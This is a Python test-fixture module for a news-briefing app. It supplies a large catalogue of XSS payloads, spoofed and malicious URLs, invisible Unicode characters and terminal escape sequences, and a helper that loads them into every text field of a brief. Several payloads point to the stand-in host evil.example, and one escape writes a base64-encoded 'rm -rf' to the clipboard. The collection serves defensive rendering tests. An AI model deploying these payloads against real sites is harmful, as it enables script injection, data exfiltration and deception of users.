"""What hostile articles hold: payloads for a page, links, and characters that nobody sees."""

from __future__ import annotations

import dataclasses
from collections.abc import Mapping
from dataclasses import replace
from typing import Any

import briefs

from briefing.models import Brief, Novelty, Story, Told, Topic

# One for each family of ways into a page, in the spellings that filters miss.
vectors = (
    # scripts
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></ScRiPt>",
    "<script/x>alert(1)</script >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0c>alert(1)</script>",
    "<svg><script href=data:,alert(1) /></svg>",
    "<svg><script>alert&#40;1)</script></svg>",
    # out of a tag, an attribute, a comment, a raw element
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "`><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "--!><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</q></blockquote></p></main><script>alert(1)</script>",
    "<!--",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!DOCTYPE html><html onload=alert(1)>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    # events
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<img src=x\x0conerror=alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<frameset onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<x onclick=alert(1) style=position:fixed;inset:0>",
    "<p popover onbeforetoggle=alert(1)>",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "x onpointerenter=alert(1) y",
    # links and loads
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=&#106;avascript&colon;alert(1)>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
    "<math href=javascript:alert(1)>x</math>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,x#x /></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><set attributeName=onload to=alert(1) /></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=//evil.example></object>",
    "<embed src=//evil.example>",
    "<base href=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>x",
    "<button formaction=javascript:alert(1)>x",
    "<isindex action=javascript:alert(1) type=image>",
    "<img src='//evil.example/?",  # dangling: swallows what comes behind it
    # styles
    "<style>@import '//evil.example';</style>",
    "<p style=background:url(//evil.example)>x",
    "<div style=width:expression(alert(1))>x",
    "}*{background:url(//evil.example)}",
    # what a parser turns into something else
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<plaintext>",
    "<xmp>",
    "<select><option>",
    "<table><td>",
    # encodings
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60script&#62alert(1)&#60/script&#62",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<\u200bscript>alert(1)</script>",
    # templates, and names that a page's scripts would read
    "{{ 7 * 7 }}{% raw %}{# x #}",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<a id=location name=location><form id=document>",
    # Markdown that becomes one of these
    "[x](javascript:alert(1))",
    "![x](//evil.example/x.png)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)",
    "```\n<script>alert(1)</script>\n```",
)

links = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    "\x01javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript://example.org/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://example.org/x",
    "view-source:https://example.org/",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example",
    "http:evil.example",
    "https:/evil.example",
    "https://example.org@evil.example/",
    "https://evil.example\\@example.org",
    "https://[::1",
    'https://example.org/"onmouseover="alert(1)',
)

# What a terminal, a browser or a search obeys and no reader sees.
unseen = (
    "\x00\x07\x08\x1b\x7f\x84\x90\x9b\x9d\xad\u034f\u061c\u115f\u180e\u200b\u200d\u200e\u200f"
    "\u202a\u202b\u202c\u202d\u202e\u2060\u2064\u2066\u2067\u2068\u2069\u206a\u3164\ufeff\uffa0"
    "\ufff9\ufffe\U000e0001\U000e0041\U000e007f"
)
terminal = (
    "\x1b[2J",  # clears the screen
    "\x1b]0;title\x07",  # names the window
    "\x1b]8;;https://evil.example\x07here\x1b]8;;\x07",  # a link
    "\x1b]52;c;cm0gLXJm\x07",  # writes to the clipboard
    "\x1bP$q\x1b\\",  # asks the terminal for an answer, which is typed
    "\x9b31m",
    "\x08\x08\x08over",
    "\rover",
    "\u202eexe.fdp",
)

_ours = (
    "article_id",
    "articles",
    "reprint_of",
    "story",
    "root",
    "pages",
    "zone",
    "relation",
    "state",
)


def brief(text: str) -> Brief:
    """The brief with ``text`` in every field that an article or a user can fill."""
    made = briefs.brief()
    first = made.glance[0]
    told = Told(made.as_of, text, first.citations[0], (text,))
    named = tuple(
        Story(name, (record.article_id,), (), replace(_headline(made), text=text), ())
        for name, record in zip("ab", made.sources, strict=False)
    )
    small = replace(
        made,
        glance=(replace(first, novelty=Novelty("updated", told), said_by=text, story="a"),),
        sections=(replace(made.sections[0], note=text), replace(made.sections[-1])),
        stories=named,
        silent=(told,),
        notes=(text,),
        last=made.as_of,
    )
    loaded = _loaded(small, text)
    assert isinstance(loaded, Brief)
    return loaded


def _headline(made: Brief) -> Any:
    from briefing.models import Headline

    return Headline(made.sources[0].article_id, "")


def _loaded(value: Any, text: str) -> Any:
    """A value with ``text`` for every text in it; what the program itself writes stays."""
    match value:
        case str():
            return text
        case Topic() | Story():
            return replace(value, **_fields(value, text, "id"))
        case tuple():
            return tuple(_loaded(part, text) for part in value)
        case Mapping():
            return dict.fromkeys([text], _loaded(next(iter(value.values()), 0), text))
        case _ if dataclasses.is_dataclass(value) and not isinstance(value, type):
            return replace(value, **_fields(value, text))
        case _:
            return value


def _fields(value: Any, text: str, *kept: str) -> dict[str, Any]:
    names = (field.name for field in dataclasses.fields(value))
    return {
        name: _loaded(getattr(value, name), text) for name in names if name not in (*_ours, *kept)
    }
